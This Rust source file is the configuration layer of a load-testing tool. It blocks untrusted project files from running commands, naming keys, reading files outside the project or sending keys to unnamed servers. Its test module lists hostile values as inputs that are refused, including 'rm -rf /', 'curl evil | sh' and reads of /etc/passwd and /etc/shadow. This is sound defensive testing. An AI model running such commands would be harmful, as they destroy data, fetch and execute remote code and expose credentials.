//! Values that need not be typed: the project's `inferometer.toml`, the user's `config.toml`, and
//! `INFEROMETER_*` variables, all below the experiment file and flags.
//!
//! A project's file comes with a repository that may come from someone else. It can describe a
//! load, but it can run no command, name no key, read no file outside of the project, and send a key to
//! no server that the user did not name.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use clap::parser::ValueSource;
use clap::{ArgAction, Args, CommandFactory, Parser};
use inferometer_model::BaseUrl;
use inferometer_target::deploy::secret;
use serde_json::Value;

use super::layer::at;
use super::schema::{Lists, join, nearest};
use super::{Layer, Origins, file, flag_at, flags};
use crate::arguments::{
    Arguments, Command, ExperimentArguments, ResultArguments, RunArguments, flag,
};
use crate::calibration::folder_of_user;
use crate::failure::{Failure, Result};
use crate::output;

/// The file of a project.
const PROJECT_FILE: &str = "inferometer.toml";
const PREFIX: &str = "INFEROMETER_";
/// Switches all of this off.
const NO_CONFIG: &str = "INFEROMETER_NO_CONFIG";
pub(crate) const IGNORED: &str =
    "inferometer.toml and config.toml are ignored because INFEROMETER_NO_CONFIG is set";

pub(crate) fn is_off() -> bool {
    std::env::var_os(NO_CONFIG).is_some_and(|value| !value.is_empty())
}

/// Variables that are no flags, and flags that are no variables.
const OTHER_VARIABLES: &str =
    "RUNS ENGINE_API_KEY NO_CONFIG TARGET CONDITION DEPLOYMENT ENGINES SEEDS EXECUTIONS";
const TYPED_ONLY: [&str; 6] = ["experiment", "set", "header", "no-config", "help", "virtual"];
/// The table of a configuration file with the flags of `run` under "Results".
const RESULTS: &str = "results";
/// Tables that say which server is measured, and how it is reached.
pub(crate) const SERVER_TABLES: &[&str] = &["target", "engine", "deploy", "client"];
/// Keys that could run a command, read a key, or accept any server's certificate.
const UNSAFE_KEYS: [&str; 10] = [
    "control.after_run",
    "control.before_run",
    "deploy",
    "kubernetes",
    "slurm",
    "repeat.restart",
    "target.api_key_file",
    "target.server_info",
    "target.insecure",
    "results.junit",
];

/// The files that are found, the lowest first, each with whether it is a project's.
fn found() -> Vec<(PathBuf, bool)> {
    // The tests of this crate must not depend on who runs them.
    if is_off() || cfg!(test) {
        return Vec::new();
    }
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let user = folder_of_user("XDG_CONFIG_HOME", ".config")
        .map(|folder| folder.join("inferometer").join("config.toml"))
        .filter(|path| path.is_file());
    let folder = std::env::current_dir().ok();
    let project = folder.and_then(|folder| project_file(&folder, home.as_deref()));
    user.map(|path| (path, false)).into_iter().chain(project.map(|path| (path, true))).collect()
}

/// The nearest file from a folder up to the root of its repository or to the home of the user. A folder
/// that is in neither is searched alone: anybody may write into `/tmp`.
fn project_file(folder: &Path, home: Option<&Path>) -> Option<PathBuf> {
    let is_end = |folder: &Path| folder.join(".git").exists() || Some(folder) == home;
    let folders: Vec<&Path> = match folder.ancestors().position(is_end) {
        Some(end) => folder.ancestors().take(end + 1).collect(),
        None => vec![folder],
    };
    folders.into_iter().map(|folder| folder.join(PROJECT_FILE)).find(|path| path.is_file())
}

/// The path as messages show it: without the folder that the user is in.
fn shown(path: &Path) -> PathBuf {
    let here = std::env::current_dir().unwrap_or_default();
    path.strip_prefix(here).map_or_else(|_| path.to_owned(), Path::to_owned)
}

/// What is set below the experiment file. `tables` restricts it to some tables.
pub(super) fn layer(arguments: &ExperimentArguments, tables: Option<&[&str]>) -> Result<Layer> {
    let mut said = Layer::default();
    if arguments.no_config {
        return Ok(said);
    }
    for (path, is_project) in found() {
        let named = arguments.places.iter().map(Path::new).chain(arguments.experiment.as_deref());
        // As the experiment file it takes precedence over the environment.
        if named.filter_map(|named| named.canonicalize().ok()).any(|named| named == path) {
            continue;
        }
        said.lay(read(&path, is_project)?.0)?;
    }
    if !cfg!(test) {
        said.lay(environment(std::env::vars_os())?)?;
    }
    if let (Some(tables), Some(tree)) = (tables, said.tree.as_object_mut()) {
        tree.retain(|table, _| tables.contains(&table.as_str()));
        said.origins.0.retain(|key, _| tables.contains(&key.split('.').next().unwrap_or_default()));
    }
    Ok(said)
}

/// The experiment in a file, and its `[results]`.
fn read(path: &Path, is_project: bool) -> Result<(Layer, Value)> {
    let mut layer = file::parse(&shown(path), &file::text(path, "configuration")?)?;
    if is_project {
        refuse_unsafe(&layer, path)?;
    }
    let results = layer.tree.as_object_mut().and_then(|tree| tree.remove(RESULTS));
    let mut layer = layer.checked(Lists::InOrder)?;
    layer.find_files_beside(path);
    Ok((layer, results.unwrap_or_default()))
}

/// Refuses what the file of a project must not decide.
fn refuse_unsafe(layer: &Layer, path: &Path) -> Result<()> {
    let refuse = |key: &str, why: &str| {
        let what = format!("`{key}` is not accepted in a project's {PROJECT_FILE}: {why}");
        let hint = "type it as a flag, or put it into an experiment file that you name";
        Err(layer.origins.failure(key, &what).hint(hint))
    };
    if let Some(key) = UNSAFE_KEYS.iter().find(|key| at(&layer.tree, key).is_some()) {
        return refuse(key, "a file that is found by itself may not run commands or name keys");
    }
    let folder = path.parent().and_then(|folder| folder.canonicalize().ok());
    let is_inside = |named: &str| {
        let whole = path.with_file_name(named).canonicalize();
        let is_plain = !Path::new(named).is_absolute() && !named.contains("..");
        is_plain
            && whole.map_or(true, |whole| folder.as_ref().is_some_and(|it| whole.starts_with(it)))
    };
    for (key, value) in leaves(&layer.tree) {
        let name = key.rsplit('.').next().unwrap_or_default();
        let names_file = file::PATHS.contains(&name) || ["tokenizer", "output"].contains(&name);
        if let Some(named) = value.as_str().filter(|named| names_file && !is_inside(named)) {
            return refuse(&key, &format!("{named} is outside of the project"));
        }
    }
    Ok(())
}

/// Every value of a tree with its key.
pub(super) fn leaves(tree: &Value) -> Vec<(String, Value)> {
    fn walk(tree: &Value, above: &str, found: &mut Vec<(String, Value)>) {
        let tables = tree.as_array().filter(|items| items.iter().any(Value::is_object));
        if let Some(table) = tree.as_object() {
            table.iter().for_each(|(key, value)| walk(value, &join(above, key), found));
        } else if let Some(items) = tables {
            let items = items.iter().enumerate();
            items.for_each(|(at, item)| walk(item, &join(above, &at.to_string()), found));
        } else {
            found.push((above.to_owned(), tree.clone()));
        }
    }
    let mut found = Vec::new();
    walk(tree, "", &mut found);
    found
}

/// The variables that are flags of `run` by their names, with their values.
fn variables(
    all: impl Iterator<Item = (OsString, OsString)>,
    flags: &clap::Command,
) -> Result<Vec<(String, String)>> {
    let mut found = Vec::new();
    for (name, value) in all {
        let Some(own) = name.to_str().and_then(|name| name.strip_prefix(PREFIX)) else { continue };
        let long = own.to_ascii_lowercase().replace('_', "-");
        let is_meant = |it: &&clap::Arg| it.get_long() == Some(&*long);
        let argument = flags.get_arguments().find(is_meant);
        let Some(argument) = argument.filter(|_| !TYPED_ONLY.contains(&&*long)) else { continue };
        let Ok(value) = value.into_string() else {
            return Err(Failure::usage(format!("{PREFIX}{own} is not text")));
        };
        let is_switch = matches!(argument.get_action(), ArgAction::SetTrue);
        match value.as_str() {
            "" => {}
            "true" | "1" if is_switch => {
                found.push((format!("{PREFIX}{own}"), format!("--{long}")));
            }
            "false" | "0" if is_switch => {}
            value => found.push((format!("{PREFIX}{own}"), format!("--{long}={value}"))),
        }
    }
    found.sort();
    Ok(found)
}

/// Variables as a layer of their own, each with its name as its origin.
fn environment(all: impl Iterator<Item = (OsString, OsString)>) -> Result<Layer> {
    let own = ExperimentArguments::augment_args(clap::Command::new("run")).mut_args(flag);
    let mut said = Layer::default();
    for (name, word) in variables(all, &own)? {
        let parsed = Arguments::try_parse_from(["inferometer", "run", &word]).map_err(|error| {
            let text = error.render().to_string();
            let first = text.lines().next().unwrap_or_default();
            Failure::usage(first.trim_start_matches("error: ")).about(&name)
        })?;
        let Some(Command::Run(run)) = parsed.command else { continue };
        let mut layer = flags(&run.experiment, run.experiment.url.clone())?;
        let keys = leaves(&layer.tree).into_iter();
        layer.origins = Origins(keys.map(|(key, _)| (key, name.clone())).collect());
        said.lay(layer)?;
    }
    Ok(said)
}

/// A warning about each variable that looks like a flag and is none.
pub(crate) fn misspelt(all: impl Iterator<Item = (OsString, OsString)>) -> Vec<String> {
    let run = RunArguments::augment_args(clap::Command::new("run")).mut_args(flag);
    let known: Vec<String> = run
        .get_arguments()
        .filter_map(|argument| Some(argument.get_long()?.replace('-', "_")))
        .collect();
    let known: Vec<&str> = known.iter().map(String::as_str).collect();
    let warning = |(name, _): (OsString, OsString)| {
        let own = name.to_str()?.strip_prefix(PREFIX)?.to_owned();
        let lower = own.to_ascii_lowercase();
        if OTHER_VARIABLES.split(' ').any(|other| other == own) || known.contains(&lower.as_str()) {
            return None;
        }
        let near = nearest(&lower, &known)?.to_ascii_uppercase();
        Some(format!("warning: {PREFIX}{own} is not a setting; did you mean {PREFIX}{near}?"))
    };
    all.filter_map(warning).collect()
}

/// Refuses to send a key to a server that only the file of a project names.
pub(super) fn check_key(said: &Layer, arguments: &ExperimentArguments) -> Result<()> {
    let Some((project, _)) = found().into_iter().find(|(_, is_project)| *is_project) else {
        return Ok(());
    };
    let project = format!("{}:", shown(&project).display());
    let is_here = |url: &&str| {
        let base: Option<BaseUrl> = url.parse().ok();
        base.is_some_and(|base| ["localhost", "127.0.0.1", "[::1]"].contains(&&*base.host))
    };
    let foreign = said.origins.0.iter().find_map(|(key, origin)| {
        let is_server = key == "target.url" || key.starts_with("target.replica");
        let value = at(&said.tree, key).filter(|_| is_server && origin.starts_with(&project))?;
        let urls = value.as_array().map_or(std::slice::from_ref(value), Vec::as_slice);
        let url = urls.iter().filter_map(Value::as_str).find(|url| !is_here(url))?;
        Some((origin, url))
    });
    let has_key = std::env::var_os("OPENAI_API_KEY").is_some_and(|key| !key.is_empty())
        || !arguments.headers.is_empty()
        || at(&said.tree, "target.api_key_file").is_some();
    if let Some((origin, url)) = foreign.filter(|_| has_key) {
        return Err(Failure::usage(format!(
            "{origin} names the server {url}, and a key or header of yours would be sent to it"
        ))
        .hint(format!("if that is meant, name it yourself: inferometer run {url}")));
    }
    Ok(())
}

/// What configuration set of an experiment, for [`announce`].
static USED: OnceLock<Vec<String>> = OnceLock::new();

/// Remembers which values come from files that were found, and from variables.
pub(super) fn remember(said: &Layer) {
    let files: Vec<String> =
        found().iter().map(|(path, _)| format!("{}:", shown(path).display())).collect();
    let mut used: Vec<(String, Vec<String>)> = Vec::new();
    for (key, value) in leaves(&said.tree) {
        let Some(origin) = said.origins.0.get(&key) else { continue };
        let file = files.iter().find(|file| origin.starts_with(*file));
        let source = match file {
            Some(file) => file.trim_end_matches(':').to_owned(),
            None if origin.starts_with(PREFIX) => "the environment".to_owned(),
            None => continue,
        };
        let name = key.rsplit('.').next().unwrap_or_default();
        let set = format!("{name} = {}", text(&value));
        match used.iter_mut().find(|(known, _)| *known == source) {
            Some((_, all)) => all.push(set),
            None => used.push((source, vec![set])),
        }
    }
    let lines = used.iter().map(|(source, set)| format!("using {source}: {}", set.join(", ")));
    let _ = USED.set(lines.collect());
}

/// Prints what makes this run another one than the command line says.
pub(crate) fn announce(quiet: bool) {
    for line in USED.get().into_iter().flatten().filter(|_| !quiet) {
        output::talk(&inferometer_report::escape::terminal(line));
    }
}

/// A value as a table shows it.
pub(crate) fn text(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// One value that is set: its key, its value, and where.
#[derive(Debug, serde::Serialize)]
pub(crate) struct Setting {
    pub(crate) key: String,
    pub(crate) value: Value,
    pub(crate) from: String,
}

/// Every value that is set, and the files that were read.
pub(crate) fn settings(arguments: &ExperimentArguments) -> Result<(Vec<Setting>, Vec<PathBuf>)> {
    let said = super::said(arguments, None)?;
    for found in secret::typed_in(&said.tree) {
        output::hide(&inferometer_model::Redactor::new(&[inferometer_model::Secret::new(found)]));
    }
    let from = |key: &str| {
        let origin = said.origins.0.get(key).cloned();
        origin.or_else(|| flag_at(key)).unwrap_or_else(|| "the command line".to_owned())
    };
    let mut all: Vec<Setting> = leaves(&said.tree)
        .into_iter()
        .map(|(key, value)| Setting { from: from(&key), key, value })
        .collect();
    let sources = if arguments.no_config { Vec::new() } else { found() };
    for (name, word, from) in result_settings(&sources)? {
        all.retain(|setting| setting.key != format!("{RESULTS}.{name}"));
        let value = word.split_once('=').map_or(Value::Bool(true), |(_, value)| value.into());
        all.push(Setting { key: format!("{RESULTS}.{name}"), value, from });
    }
    Ok((all, sources.into_iter().map(|(path, _)| path).collect()))
}

/// Flags about results that files and variables set, the lowest first: name, word, origin.
fn result_settings(sources: &[(PathBuf, bool)]) -> Result<Vec<(String, String, String)>> {
    let own = ResultArguments::augment_args(clap::Command::new("run")).mut_args(flag);
    let mut set = Vec::new();
    for (path, is_project) in sources {
        let (_, results) = read(path, *is_project)?;
        for (key, value) in leaves(&results).into_iter().filter(|(key, _)| !key.is_empty()) {
            let long = key.replace('_', "-");
            let file = shown(path).display().to_string();
            let Some(argument) = own.get_arguments().find(|it| it.get_long() == Some(&*long))
            else {
                let known: Vec<&str> =
                    own.get_arguments().filter_map(clap::Arg::get_long).collect();
                return Err(Failure::usage(format!("{file}: unknown key `{key}` in [{RESULTS}]"))
                    .hint(format!("known are {}", known.join(", "))));
            };
            let word = match (&value, argument.get_action()) {
                (Value::Bool(true), ArgAction::SetTrue) => format!("--{long}"),
                (Value::Bool(false), ArgAction::SetTrue) => continue,
                (value, _) => format!("--{long}={}", text(value)),
            };
            set.push((long, word, file));
        }
    }
    if !cfg!(test) {
        for (name, word) in variables(std::env::vars_os(), &own)? {
            let long = word.trim_start_matches('-').split('=').next().unwrap_or_default();
            set.push((long.to_owned(), word.clone(), name));
        }
    }
    Ok(set)
}

/// Flags that exclude each other: where one is typed, none of the others is taken from elsewhere.
const ALIKE: [&[&str]; 2] = [&["json", "full", "format"], &["progress", "live"]];

/// The command line, with flags about results that files and variables set and the user did not.
pub(crate) fn with_results(words: Vec<OsString>) -> Result<Vec<OsString>> {
    let measures = ["run", "suite", "sweep", "simulate"];
    let command = words.get(1).and_then(|word| word.to_str()).unwrap_or_default().to_owned();
    let has_no_config = words.iter().any(|word| word == "--no-config");
    if is_off() || has_no_config || !measures.contains(&command.as_str()) {
        return Ok(words);
    }
    let set = result_settings(&found())?;
    if set.is_empty() {
        return Ok(words);
    }
    let whole = Arguments::command();
    let Ok(matches) = whole.clone().try_get_matches_from(&words) else { return Ok(words) };
    let Some((_, typed)) = matches.subcommand() else { return Ok(words) };
    let own = whole.find_subcommand(&command);
    let is_typed = |long: &str| {
        let mut arguments = own.into_iter().flat_map(clap::Command::get_arguments);
        let id = arguments.find(|it| it.get_long() == Some(long)).map(clap::Arg::get_id);
        id.is_some_and(|id| typed.value_source(id.as_str()) == Some(ValueSource::CommandLine))
    };
    let (mut words, mut taken) = (words, Vec::new());
    for (long, word, _) in set.into_iter().rev() {
        let is_taken = |it: &str| is_typed(it) || taken.iter().any(|taken: &String| taken == it);
        let alike = ALIKE.iter().find(|group| group.contains(&long.as_str()));
        if is_taken(&long) || alike.is_some_and(|group| group.iter().any(|it| is_taken(it))) {
            continue;
        }
        taken.push(long);
        words.push(word.into());
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn layer_of(text: &str) -> Layer {
        file::parse(Path::new("/project/inferometer.toml"), text).unwrap()
    }

    #[test]
    fn a_project_file_runs_nothing_names_no_key_and_stays_inside() {
        let refused = [
            "[deploy]\ncommand = \"rm -rf /\"",
            "[repeat]\nrestart = \"curl evil | sh\"",
            "[target]\napi_key_file = \"key\"",
            "[target]\nserver_info = \"ssh evil\"",
            "[target]\ninsecure = true",
            "[workload]\nprompt_file = \"/etc/passwd\"",
            "[workload]\ndataset = \"../../secrets.json\"",
            "[[workload.mix]]\ntrace = \"/etc/shadow\"",
            "[workload.body]\ntools = \"/etc/tools.json\"",
            "[results]\noutput = \"/etc\"",
            "[results]\njunit = \"x.xml\"",
        ];
        for text in refused {
            let failure = refuse_unsafe(&layer_of(text), Path::new("/project/inferometer.toml"));
            let failure = failure.expect_err(text);
            assert!(failure.message().contains("/project/inferometer.toml:"), "{failure}");
            assert!(failure.hint.is_some(), "{text}");
        }
        let fine = "[load]\nconcurrency = 8\n[workload]\ndataset = \"data/chats.json\"";
        assert!(refuse_unsafe(&layer_of(fine), Path::new("/project/inferometer.toml")).is_ok());
    }

    #[test]
    fn parents_are_searched_inside_of_a_repository_or_home_only() {
        let root = tempfile::tempdir().unwrap();
        let (repository, inner) = (root.path().join("repo"), root.path().join("repo/a/b"));
        std::fs::create_dir_all(&inner).unwrap();
        std::fs::write(root.path().join(PROJECT_FILE), "").unwrap();
        assert_eq!(project_file(&inner, None), None, "nobody's folder");
        let outer = Some(root.path().join(PROJECT_FILE));
        assert_eq!(project_file(&inner, Some(root.path())), outer);
        std::fs::create_dir(repository.join(".git")).unwrap();
        assert_eq!(project_file(&inner, Some(root.path())), None, "the repository ends it");
        std::fs::write(repository.join(PROJECT_FILE), "").unwrap();
        assert_eq!(project_file(&inner, None), Some(repository.join(PROJECT_FILE)));
    }

    fn environment_of(set: &[(&str, &str)]) -> Result<Layer> {
        environment(set.iter().map(|(name, value)| (name.into(), value.into())))
    }

    #[test]
    fn variables_are_flags() {
        let said = environment_of(&[
            ("INFEROMETER_CONCURRENCY", "2k"),
            ("INFEROMETER_URL", "http://h:1"),
            ("INFEROMETER_HTTP2", "true"),
            ("INFEROMETER_NO_STREAM", "1"),
            ("INFEROMETER_RUNS", "elsewhere"),
            ("INFEROMETER_EXPERIMENT", "other.toml"),
            ("CONCURRENCY", "3"),
        ])
        .unwrap();
        let wanted = serde_json::json!({
            "load": { "concurrency": 2000 },
            "target": { "url": "http://h:1", "http2": true },
            "workload": { "stream": false },
        });
        assert_eq!(said.tree, wanted);
        assert_eq!(said.origins.0["load.concurrency"], "INFEROMETER_CONCURRENCY");
        let failure = environment_of(&[("INFEROMETER_CONCURRENCY", "many")]).unwrap_err();
        assert!(
            failure.message().starts_with("INFEROMETER_CONCURRENCY: invalid value"),
            "{failure}"
        );
    }

    #[test]
    fn a_misspelt_variable_is_reported() {
        let named = |name: &str| misspelt([(name.into(), "1".into())].into_iter());
        let wanted = "did you mean INFEROMETER_CONCURRENCY?";
        assert!(named("INFEROMETER_CONCURENCY")[0].contains(wanted));
        for fine in ["INFEROMETER_CONCURRENCY", "INFEROMETER_RUNS", "PATH", "INFEROMETER_ENGINES"] {
            assert!(named(fine).is_empty(), "{fine}");
        }
    }
}
